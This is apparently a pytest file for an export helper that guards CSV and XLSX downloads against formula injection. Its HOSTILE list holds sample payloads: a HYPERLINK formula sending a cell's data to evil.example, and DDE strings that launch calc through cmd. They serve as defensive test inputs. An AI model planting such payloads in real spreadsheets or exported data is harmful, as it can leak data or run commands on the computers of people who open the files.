"""The one export helper: cells are text, formulas never come alive, in CSV and in XLSX."""

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from core.exports import csv_bytes, export_response, looks_like_formula, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?p="&D3,"Открыть")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]
HARMLESS = ["Иванов", "Петрова-Водкина", "ИС-21", "", "a=b", "#N/A"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_are_recognised(value):
    assert looks_like_formula(value)


@pytest.mark.parametrize("value", HARMLESS)
def test_ordinary_text_is_not_taken_for_a_formula(value):
    assert not looks_like_formula(value)


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_csv_cells_that_start_like_formulas_get_an_apostrophe():
    data = csv_bytes(header=["ФИО"], rows=[[value] for value in HOSTILE + HARMLESS])

    cells = [row[0] for row in _csv_rows(data)[1:]]

    assert cells[: len(HOSTILE)] == ["'" + value for value in HOSTILE]
    assert cells[len(HOSTILE) :] == HARMLESS


def test_csv_keeps_numbers_and_writes_dates_the_russian_way():
    data = csv_bytes(header=["Число", "Дата"], rows=[[-5, datetime.date(2026, 9, 1)]])

    assert _csv_rows(data)[1] == ["-5", "01.09.2026"]


def test_xlsx_cells_are_text_never_formulas_and_keep_the_value_as_typed():
    data = xlsx_bytes(header=["ФИО"], rows=[[value] for value in HOSTILE + HARMLESS], title="Отчёт")

    sheet = load_workbook(io.BytesIO(data)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]

    assert sheet.title == "Отчёт"
    assert all(cell.data_type == "s" for cell in cells if cell.value is not None)
    # XML keeps no lone carriage return: it reads back as a line feed.
    assert [cell.value for cell in cells[: len(HOSTILE)]] == [value.replace("\r", "\n") for value in HOSTILE]
    assert all(cell.quotePrefix for cell in cells[: len(HOSTILE)])
    assert [cell.value or "" for cell in cells[len(HOSTILE) :]] == HARMLESS


def test_xlsx_file_holds_no_formula_element():
    import zipfile

    data = xlsx_bytes(header=["ФИО"], rows=[[value] for value in HOSTILE])

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")

    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


@pytest.mark.parametrize(("fmt", "content_type"), [("csv", "text/csv"), ("xlsx", "application/vnd.openxmlformats")])
def test_export_response_is_an_attachment_with_a_readable_name(fmt, content_type):
    response = export_response(fmt, filename="Отчёт", header=["ФИО"], rows=[["Иванов"]])

    assert response["Content-Type"].startswith(content_type)
    assert response["Content-Disposition"].startswith("attachment;")
    assert f".{fmt}" in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"


def test_no_export_writes_spreadsheets_past_the_helper():
    """Every CSV/XLSX a person downloads goes through core.exports, present and future."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writer = re.compile(r"csv\.writer|csv\.DictWriter|\bWorkbook\(|WriteOnlyCell|xlsxwriter")
    skip = {"tests", "bench", "node_modules", ".venv", "static", "locale", "templates"}
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if not skip & set(path.relative_to(root).parts[:1])
        and not path.relative_to(root).parts[0].startswith(".")  # .venv, .lock-venv, .git
        and path.relative_to(root).as_posix() != "core/exports.py"
        and writer.search(path.read_text(encoding="utf-8"))
    ]

    assert offenders == []
